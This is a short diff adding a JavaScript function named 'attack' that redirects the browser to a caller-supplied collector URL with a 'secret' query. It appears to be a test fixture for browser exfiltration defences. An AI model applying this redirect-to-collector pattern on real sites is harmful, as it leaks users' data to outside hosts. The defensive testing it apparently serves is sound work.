@@ -1,0 +1,4 @@
+const attack = ({ collector }) => {
+  location.href = `${collector}/self?secret`;
+  return "tried";
+};
